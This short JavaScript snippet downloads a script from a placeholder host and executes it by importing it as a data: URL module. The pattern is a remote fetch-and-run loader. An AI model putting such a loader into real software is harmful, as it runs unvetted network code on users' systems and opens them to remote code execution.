const code = await (await fetch('https://files.example.test/m.js')).text();
await import('data:text/javascript,' + encodeURIComponent(code));
